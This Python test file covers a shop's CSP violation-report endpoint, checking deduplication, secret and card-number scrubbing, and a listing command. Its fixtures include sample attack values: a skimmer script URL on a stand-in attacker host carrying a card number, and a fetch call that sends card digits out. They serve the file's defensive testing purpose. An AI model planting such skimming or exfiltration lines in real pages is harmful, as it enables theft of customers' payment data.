"""POST /csp-report stores each kind of violation once (with a count), in both report formats, without the
secrets a URL may carry; `shop csp-report` lists them."""
import json

from sqlalchemy import select

from app.models import CspReport, db

CHECKOUT = "http://localhost/checkout"


def _legacy(blocked="inline", document=CHECKOUT + "?payment_intent_client_secret=pi_1_secret_abcdef", **extra):
    return {"csp-report": {"document-uri": document, "referrer": "", "violated-directive": "script-src-elem",
                           "effective-directive": "script-src-elem", "original-policy": "default-src 'self'",
                           "disposition": "enforce", "blocked-uri": blocked, "status-code": 200,
                           "script-sample": "", **extra}}


def _reporting_api(blocked="https://evil.example/skim.js?card=4242424242424242"):
    return [{"type": "csp-violation", "age": 10, "url": CHECKOUT, "user_agent": "Chromium",
             "body": {"documentURL": CHECKOUT, "blockedURL": blocked, "effectiveDirective": "script-src-elem",
                      "disposition": "enforce", "sourceFile": CHECKOUT, "lineNumber": 1, "sample": "",
                      "statusCode": 200, "originalPolicy": "default-src 'self'"}},
            {"type": "deprecation", "age": 1, "url": CHECKOUT, "body": {"id": "x"}}]


def _post(client, body, content_type="application/csp-report"):
    return client.post("/csp-report", data=json.dumps(body), content_type=content_type)


def _reports(app):
    with app.app_context():
        return [(r.directive, r.blocked_uri, r.document_uri, r.count, json.loads(r.body))
                for r in db.session.scalars(select(CspReport).order_by(CspReport.id))]


def test_a_report_uri_report_is_stored_without_the_query_string(app, client):
    response = _post(client, _legacy())
    assert response.status_code == 204
    [(directive, blocked, document, count, body)] = _reports(app)
    assert (directive, blocked, document, count) == ("script-src-elem", "inline", CHECKOUT, 1)
    assert "secret" not in json.dumps(body)


def test_a_reporting_api_batch_is_stored_and_other_report_types_ignored(app, client):
    response = _post(client, _reporting_api(), "application/reports+json")
    assert response.status_code == 204
    [(directive, blocked, document, count, body)] = _reports(app)
    assert blocked == "https://evil.example/skim.js" and "4242" not in json.dumps(body)
    assert body["line"] == 1


def test_repeats_are_counted_not_stored_again(app, client):
    for _ in range(5):
        _post(client, _legacy())
    _post(client, _legacy(blocked="eval"))
    assert [(r[1], r[3]) for r in _reports(app)] == [("inline", 5), ("eval", 1)]


def test_the_same_violation_on_two_order_pages_is_one_kind(app, client):
    for order in ("a" * 32, "b" * 32):
        _post(client, _legacy(document=f"http://localhost/orders/{order}"))
    assert [r[3] for r in _reports(app)] == [2]


def test_script_samples_are_scrubbed_of_card_like_numbers(app, client):
    _post(client, _legacy(**{"script-sample": "fetch('//x?c=4242 4242 4242 4242')"}))
    [(_, _, _, _, body)] = _reports(app)
    assert "4242 4242" not in body["sample"] and "[card?]" in body["sample"]


def test_the_csp_report_command_lists_each_kind_with_its_count(app, client):
    for _ in range(3):
        _post(client, _legacy())
    output = app.test_cli_runner().invoke(args=["csp-report"]).output
    assert "x3" in output and "script-src-elem" in output and "blocked=inline" in output
    assert "page=http://localhost/checkout" in output
    lines = app.test_cli_runner().invoke(args=["csp-report", "--json"]).output.splitlines()
    assert json.loads(lines[0])["count"] == 3


def test_the_command_says_so_when_nothing_was_reported(app):
    assert "no CSP violations reported" in app.test_cli_runner().invoke(args=["csp-report"]).output


def test_reports_need_no_csrf_token(make_app, settings):
    app = make_app(settings)
    app.config["WTF_CSRF_ENABLED"] = True
    assert _post(app.test_client(), _legacy()).status_code == 204


def test_reports_are_counted_in_the_metric(app, client):
    from app.telemetry import metrics

    before = metrics.CSP_REPORTS.labels("script-src-elem")._value.get()
    _post(client, _legacy())
    assert metrics.CSP_REPORTS.labels("script-src-elem")._value.get() == before + 1
